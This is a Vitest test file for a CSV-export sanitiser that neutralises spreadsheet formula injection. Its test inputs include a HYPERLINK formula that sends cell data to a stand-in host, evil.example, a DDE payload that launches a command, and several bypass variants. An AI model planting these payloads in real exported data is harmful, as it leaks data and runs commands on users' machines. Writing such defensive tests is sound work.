import { describe, expect, it } from "vitest";
import { neutraliseFormula } from "../../reports/csv-safe.ts";

describe("neutraliseFormula", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?d="&A1,"Click")'],
    ["+1"],
    ["-2+3"],
    ["@SUM(A1:A9)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["\n=1+1"],
    ["=cmd|'/c calc'!A1"],
  ])("prefixes a single quote to %j", (cell) => {
    expect(neutraliseFormula(cell)).toBe(`'${cell}`);
  });

  it.each([["  =1+1"], [" @SUM(A1)"], ["\u00a0-1"]])(
    "catches a formula after leading whitespace: %j",
    (cell) => {
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    },
  );

  it.each([['"=1+1'], ['" "@SUM(A1)'], ['x;"=1+1', "x;'\"=1+1"]])(
    "catches a formula after double quotes, which an import that ignores quoting leaves in front: %j",
    (cell, safe = `'${cell}`) => {
      expect(neutraliseFormula(cell)).toBe(safe);
    },
  );

  it("catches full-width formula characters some spreadsheets also accept", () => {
    expect(neutraliseFormula("\uFF1D1+1")).toBe("'\uFF1D1+1");
  });

  it.each([
    [
      'Dana; =HYPERLINK("http://evil.example/?d="&A1,"Click")',
      'Dana;\' =HYPERLINK("http://evil.example/?d="&A1,"Click")',
    ],
    ["note;@SUM(A1:A9)", "note;'@SUM(A1:A9)"],
    ["a; -2+3; b;+1", "a;' -2+3; b;'+1"],
    ["x;\t=1+1", "x;'\t=1+1"],
    ["=1;=2", "'=1;'=2"],
  ])("neutralises a formula after a `;`, where `;`-splitting locales start a new cell: %j", (cell, safe) => {
    expect(neutraliseFormula(cell)).toBe(safe);
  });

  it.each([
    ["dana.whitfield@acme.com"],
    ["ghost-account"],
    ["monthlyCost=12.5; lastLoginAt=null"],
    ["groups=Admins, Everyone; privileged=true"],
    ["SOC2 CC6.2; NIST AC-2"],
    [""],
    ["'already quoted"],
    ['"quoted" text'],
  ])("leaves ordinary text unchanged: %j", (cell) => {
    expect(neutraliseFormula(cell)).toBe(cell);
  });
});
